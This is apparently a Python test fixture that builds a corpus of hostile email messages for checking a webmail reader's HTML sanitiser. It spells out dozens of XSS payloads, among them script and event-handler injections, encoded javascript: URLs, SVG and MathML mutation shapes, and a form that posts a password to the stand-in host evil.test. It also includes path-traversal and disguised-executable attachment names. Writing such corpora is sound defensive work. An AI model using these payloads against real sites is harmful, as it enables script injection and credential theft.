"""The XSS corpus: hostile messages the reader must show without running or fetching anything.

Each :class:`Case` is a complete RFC 5322 message. Payloads that would run call ``alert`` (a browser
test listens for dialogs), set ``top.document.title`` to ``PWNED`` or reach ``evil.test`` (a browser
test records every request leaving 127.0.0.1). Unit tests sanitise every case and check the output
structurally (tests/webmail/reading/test_xss.py); the browser test delivers them and opens them in
Chromium (tests/webmail/reading/test_browser.py).

Families: script elements, event handlers, javascript:/vbscript:/data: URLs (also entity-, case- and
whitespace-encoded), CSS expression() and url(), <style>, SVG and MathML (incl. mutation-XSS shapes),
<base>, meta refresh, iframes/objects/embeds/frames, forms, malformed and unclosed markup, transfer- and
charset-encoded bodies, headers carrying markup, attachment names with markup and path traversal.
"""

from __future__ import annotations

import base64
import quopri
from dataclasses import dataclass

EVIL = "evil.test"
RUN = "top.document.title='PWNED';alert(1)"


@dataclass(frozen=True)
class Case:
    name: str
    raw: bytes


HTML_PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script_src": f"<SCRIPT SRC=http://{EVIL}/x.js></SCRIPT>",
    "script_in_attr_context": f'<p title="x"><script>{RUN}</script></p>',
    "img_onerror": f'<img src=x onerror="{RUN}">',
    "body_onload": f'<body onload="{RUN}"><p>hi</p></body>',
    "handlers_many": (
        f'<details open ontoggle="{RUN}"><summary>s</summary></details>'
        f'<marquee onstart="{RUN}">m</marquee><a href="#" onclick="{RUN}">c</a>'
        f'<div onmouseover="{RUN}" style="width:100%;height:500px">hover</div>'
        f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>'
    ),
    "javascript_href": '<a href="javascript:alert(1)">click</a>',
    "javascript_entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>'
        '<a href="&#x6A;avascript&colon;alert(1)">h</a>'
    ),
    "javascript_whitespace": (
        '<a href="jav&#x09;ascript:alert(1)">t</a><a href=" javascript:alert(1)">s</a>'
        '<a href="java\nscript:alert(1)">n</a><a href="JaVaScRiPt:alert(1)">c</a>'
        '<a href="&#0000106avascript:alert(1)">z</a>'
    ),
    "vbscript_href": '<a href="vbscript:msgbox(1)">vb</a>',
    "data_html_href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "data_svg_img": (
        '<img src="data:image/svg+xml;base64,'
        + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
        + '">'
    ),
    "css_expression": '<div style="width: expression(alert(1)); color: red">e</div>',
    "css_url_javascript": '<div style="background:url(javascript:alert(1))">u</div>',
    "css_url_remote": f'<div style="background-image:url(http://{EVIL}/css.png)">r</div>',
    "css_escaped_url": f'<div style="b\\61ckground: u\\72l(http://{EVIL}/e.png)">x</div>',
    "css_import_style": (
        f"<style>@import 'http://{EVIL}/x.css'; body{{background:url(http://{EVIL}/b.png)}}</style>"
        "<p>styled</p>"
    ),
    "css_behaviour": '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">b</div>',
    "svg_onload": f'<svg onload="{RUN}"><circle r="5"/></svg>',
    "svg_script": f"<svg><script>{RUN}</script></svg>",
    "svg_xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="15">x</text></a></svg>',
    "svg_animate": '<svg><animate attributeName="href" to="javascript:alert(1)"/><a><text>x</text></a></svg>',
    "svg_foreign": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "math_href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "math_mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "math_maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
    "base_href": f'<base href="http://{EVIL}/"><a href="relative">rel</a><img src="relative.png">',
    "meta_refresh_js": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta_refresh_remote": f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/">',
    "iframe_js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe_srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object_embed": (
        f'<object data="http://{EVIL}/x.swf"></object><embed src="http://{EVIL}/x.swf">'
        f'<applet code="x" codebase="http://{EVIL}/"></applet>'
    ),
    "frameset": f'<frameset><frame src="http://{EVIL}/f"></frameset>',
    "form": (
        f'<form action="http://{EVIL}/steal" method="post"><input name="p" type="password">'
        '<button>go</button></form><button formaction="javascript:alert(1)">x</button>'
    ),
    "link_stylesheet": f'<link rel="stylesheet" href="http://{EVIL}/s.css"><p>l</p>',
    "remote_image": f'<p>tracker</p><img src="http://{EVIL}/track.gif" width="1" height="1">',
    "remote_srcset": f'<img srcset="http://{EVIL}/a.png 1x"><picture><source srcset="http://{EVIL}/b.png"></picture>',
    "remote_background_attr": f'<table background="http://{EVIL}/bg.png"><tr><td>t</td></tr></table>',
    "remote_video_poster": f'<video poster="http://{EVIL}/p.png"></video><audio src="http://{EVIL}/a.mp3"></audio>',
    "relative_urls": '<a href="/logout">out</a><img src="/mail/folder/1/1/raw"><a href="//evil.test/x">pr</a>',
    "malformed_unclosed": f'<img src=x onerror="{RUN}"//',
    "malformed_nested": f"<<script>{RUN};//<</script><scr<script>ipt>{RUN}</script>",
    "malformed_quotes": f'<img """><script>{RUN}</script>">',
    "malformed_comment": f'<!--<img src="--><img src=x onerror="{RUN}"//">',
    "noscript_breakout": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "title_breakout": f"<title><img src=x onerror={RUN}></title><p>t</p>",
    "textarea_breakout": f"<textarea></textarea><script>{RUN}</script>",
    "template": f"<template><script>{RUN}</script></template>",
    "unclosed_href": '<a href="javascript:alert(1)',
    "null_entity": '<a href="java&#0;script:alert(1)">nul</a><a href="java&#x0A;script:alert(1)">nl</a>',
}


def _message(headers: list[str], body: bytes, content_type: str, encoding: str = "8bit") -> bytes:
    head = [
        "From: Mallory <mallory@outside.test>",
        "To: alice@example.test",
        "Date: Mon, 06 Jan 2025 10:00:00 +0000",
        "MIME-Version: 1.0",
        *headers,
        f"Content-Type: {content_type}",
        f"Content-Transfer-Encoding: {encoding}",
    ]
    return (
        ("\r\n".join(head) + "\r\n\r\n").encode()
        + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        + b"\r\n"
    )


def html_case(name: str, payload: str) -> Case:
    body = f"<html><head><title>t</title></head><body><p>case {name}</p>{payload}</body></html>"
    return Case(
        f"html_{name}",
        _message([f"Subject: xss {name}"], body.encode("utf-8"), "text/html; charset=utf-8"),
    )


def _encoded_cases() -> list[Case]:
    html = f"<p>encoded</p><script>{RUN}</script><img src=x onerror=alert(1)>".encode()
    utf7 = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>utf7</p>"
    return [
        Case(
            "encoded_quoted_printable",
            _message(
                ["Subject: qp"], quopri.encodestring(html), "text/html; charset=utf-8", "quoted-printable"
            ),
        ),
        Case(
            "encoded_base64",
            _message(["Subject: b64"], base64.encodebytes(html), "text/html; charset=utf-8", "base64"),
        ),
        Case("encoded_utf7", _message(["Subject: utf7"], utf7, "text/html; charset=utf-7")),
    ]


def _header_cases() -> list[Case]:
    text = b"plain body <script>alert(1)</script> javascript:alert(1) http://ok.test/?a=<b>\n"
    encoded = base64.b64encode(f"<img src=x onerror={RUN}>".encode()).decode()
    return [
        Case("header_subject_markup", _message([f"Subject: <script>{RUN}</script>"], text, "text/plain")),
        Case("header_subject_encoded", _message([f"Subject: =?utf-8?b?{encoded}?="], text, "text/plain")),
        Case(
            "header_from_markup",
            _message(
                [
                    "Subject: from markup",
                    f'Reply-To: "<img src=x onerror={RUN}>" <r@outside.test>',
                    f"Cc: =?utf-8?b?{encoded}?= <c@outside.test>",
                    "Disposition-Notification-To: <script>x</script> <mdn@outside.test>",
                ],
                text,
                "text/plain",
            ),
        ),
    ]


def _attachment_case() -> Case:
    boundary = "b0und"
    names = [
        ('filename="<img src=x onerror=alert(1)>.png"', "image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n")),
        ('filename="../../../etc/passwd"', "text/plain", base64.b64encode(b"root:x:0:0\n")),
        ('filename="..\\\\..\\\\windows\\\\evil.bat"', "application/octet-stream", base64.b64encode(b"echo")),
        (
            "filename*=utf-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.html",
            "text/html",
            base64.b64encode(f"<script>{RUN}</script>".encode()),
        ),
        ('filename="invoice\u202efdp.exe"', "application/octet-stream", base64.b64encode(b"MZ")),
        (
            'filename="pic.svg"',
            "image/svg+xml",
            base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ),
    ]
    chunks = [f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nsee attachments\r\n".encode()]
    for disposition, kind, data in names:
        chunks.append(
            (
                f"--{boundary}\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
                f"Content-Disposition: attachment; {disposition}\r\n\r\n"
            ).encode()
            + data
            + b"\r\n"
        )
    chunks.append(f"--{boundary}--\r\n".encode())
    return Case(
        "attachment_names",
        _message(
            ["Subject: attachments"], b"".join(chunks), f'multipart/mixed; boundary="{boundary}"', "7bit"
        ),
    )


def corpus() -> list[Case]:
    """Every case, HTML payloads first."""
    return [
        *(html_case(name, payload) for name, payload in HTML_PAYLOADS.items()),
        *_encoded_cases(),
        *_header_cases(),
        _attachment_case(),
    ]
